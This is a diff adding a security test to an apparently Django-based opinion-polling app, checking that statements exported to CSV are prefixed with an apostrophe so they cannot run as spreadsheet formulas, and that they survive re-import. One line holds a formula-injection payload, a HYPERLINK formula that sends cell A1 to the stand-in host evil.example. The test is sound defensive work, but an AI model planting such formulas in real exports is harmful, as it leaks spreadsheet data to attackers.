@@ -298,3 +298,40 @@ def test_a_conversation_of_another_participant_cannot_be_written_through_ids(con
         browser(), api("votes", conversation), {"statement": foreign.pk, "choice": "agree"}
     )
     assert response.status_code == 404
+
+
+def test_statement_texts_in_the_polis_export_cannot_run_as_spreadsheet_formulas(db, tmp_path):
+    """Anyone may submit a statement, and staff open the export's CSV files in a spreadsheet: a
+    text starting with = + - @ is written with a leading apostrophe (read as text), and reads back
+    as written when the export is imported again."""
+    import csv
+    import io
+    import zipfile
+
+    from clustering.polis import conversation_import_polis
+    from tests.security.conftest import logged_in, make_user
+
+    conversation = make_conversation("formula-export")
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    services.statement_submit_by_browser(
+        conversation=conversation, browser_token="t" * 32, text=formula
+    )
+    services.statement_seed(conversation=conversation, text="-50 % bus fares for pensioners")
+    benches = services.statement_seed(conversation=conversation, text="More benches")
+    services.vote_cast(participant=make_participant(conversation), statement_id=benches.pk, choice=1)
+    staff = logged_in(make_user("staff", staff=True, superuser=True))
+    response = staff.get(f"/reports/{conversation.slug}/export.zip")
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        archive.extractall(tmp_path)
+    (folder,) = [path.parent for path in tmp_path.rglob("comments.csv")]
+    for name, column in (("comments.csv", "comment-body"), ("comment-groups.csv", "comment")):
+        with (folder / name).open(newline="", encoding="utf-8") as f:
+            cells = sorted(row[column] for row in csv.DictReader(f))
+        assert cells == sorted(["'" + formula, "'-50 % bus fares for pensioners", "More benches"])
+
+    imported = conversation_import_polis(folder=folder, slug="formula-again")
+    assert sorted(imported.statements.values_list("text", flat=True)) == sorted(
+        [formula, "-50 % bus fares for pensioners", "More benches"]
+    )
